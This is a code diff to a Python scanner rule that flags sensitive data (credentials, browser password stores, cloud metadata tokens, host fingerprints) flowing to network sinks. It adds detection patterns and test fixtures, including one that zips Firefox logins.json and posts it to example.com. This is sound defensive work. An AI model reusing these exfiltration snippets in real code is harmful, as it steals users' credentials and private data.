@@ -15,6 +15,7 @@ from ._outbound import (
     known_provider,
     label_severity,
     label_text,
+    metadata_host,
     provider_hosts_match,
 )
 
@@ -32,7 +33,10 @@ class SensitiveDataToNetwork(Rule):
     `~/.pypirc`, `~/.git-credentials`, `~/.docker/config.json`, `~/.kube/config`...), browser
     password and cookie stores, Discord/Telegram token stores, crypto wallets, `/etc/passwd` and
     `/etc/shadow`, host fingerprints (`socket.gethostname`, `getpass.getuser`, `uuid.getnode`,
-    public-IP lookups), clipboard, keystrokes, screenshots, camera and microphone.
+    public-IP lookups, `whoami`/`wmic`/`hostname` output), clipboard, keystrokes, screenshots, camera
+    and microphone, cloud credentials from instance metadata services, `browser_cookie3`/`netrc`/
+    `keyring` reads. Folder walks (`os.walk`, `glob`, `os.listdir`), copies and archives
+    (`shutil.make_archive`, `zipfile`, `tarfile` into a buffer) of such paths carry their data.
     Sinks: `requests`/`httpx`/`aiohttp`/`urllib`/`urllib3`/`http.client` (body, params, headers,
     URL), sockets, `smtplib`, `ftplib`, `paramiko` SFTP, `curl`/`wget`/`nc` subprocesses,
     webhook clients, cloud uploads. (Data smuggled in DNS names is DS304's.)
@@ -51,6 +55,9 @@ class SensitiveDataToNetwork(Rule):
     credential positions of a client (`auth=`, `headers=`, `cookies=`, `smtp.login(...)`) are not
     reported either, unless the host is high-risk, or the variable belongs to a known service
     (`GITHUB_TOKEN`, `AWS_*`, `NPM_TOKEN`...) and the literal host is not that service's: **medium**.
+    A stored login in those positions (`auth=` from `~/.docker/config.json`) is **medium**, and not
+    reported when read through an API (`cookies=browser_cookie3.chrome(...)`); an identity file given
+    to `ssh -i` / `scp -i` is how the tool logs in, not data.
 
     ## Why is this bad?
     Stealing credentials, tokens and the environment of CI runners and developer machines is what
@@ -86,6 +93,7 @@ class SensitiveDataToNetwork(Rule):
         "import os, requests\nrequests.post(os.environ['TOKEN_URL'], data={'client_secret': os.environ['CLIENT_SECRET']})\n",
         "import requests\nrequests.post('https://telemetry.example.com/v1', json={'version': '1.2.3'})\n",
         "import socket, logging\nlogging.info('running on %s', socket.gethostname())\n",
+        "import os, subprocess\nsubprocess.run(['ssh', '-i', os.path.expanduser('~/.ssh/deploy'), 'u@example.com', 'ls'])\n",
     )
     INVALID = (
         "import os, requests\nrequests.post('https://example.com/c', json=dict(os.environ))\n",
@@ -94,6 +102,9 @@ class SensitiveDataToNetwork(Rule):
         Example("import os, socket, requests\n\ndef collect():\n    return {'host': socket.gethostname(), "
                 "'env': dict(os.environ)}\n\ndef send(data):\n    requests.post('http://203.0.113.9/', json=data)\n\n"
                 "send(collect())\n"),
+        ("import os, zipfile, requests\nwith zipfile.ZipFile('b.zip', 'w') as z:\n"
+         "    z.write(os.path.join(os.getenv('APPDATA'), 'Mozilla', 'Firefox', 'Profiles', 'x', 'logins.json'))\n"
+         "requests.post('https://example.com/u', files={'f': open('b.zip', 'rb')})\n"),
     )
 
     def __init__(self, context) -> None:  # type: ignore[no-untyped-def]
@@ -108,8 +119,9 @@ class SensitiveDataToNetwork(Rule):
 
     def visit_Call(self, node: cst.Call) -> None:
         sink = self.analyzer.sink(node)
-        if sink is None or sink.spec.connects or sink.spec.dns:
-            return  # DNS names carrying data are DS304's
+        if sink is None or sink.spec.connects or sink.spec.dns or (
+                sink.spec.destination == "command" and self.analyzer.command_name_args(node)):
+            return  # DNS names carrying data are DS304's (also when `nslookup`/`dig`/`ping` looks them up)
         flows = self.analyzer.data_taints(sink)
         if not flows:
             return
@@ -144,6 +156,12 @@ class SensitiveDataToNetwork(Rule):
     def _severity(label: str, role: str, dests, risky: bool) -> Severity | None:  # type: ignore[no-untyped-def]
         severity = label_severity(label)
         kind, _, var = label.partition(":")
+        if kind == "cloud-credentials" and dests and all(metadata_host(d.host) for d in dests):
+            return None  # the metadata service's own answers, sent back to it (the role name in the next URL)
+        if role == "credentials" and not risky and severity >= Severity.CRITICAL:
+            # `cookies=browser_cookie3.chrome(...)`, `auth=` from netrc or the Docker config: a client logging in with
+            # the user's own stored credentials (a reading API: not reported; a file: medium, the file is named)
+            return None if var == "api" else Severity.MEDIUM
         if kind in ("env", "env-secret") and role == "credentials" and not risky:
             # A client authenticating (auth=, headers=, cookies=, .login()): reported only when a variable of a
             # known service (GITHUB_TOKEN) goes to a literal host that is not that service's.
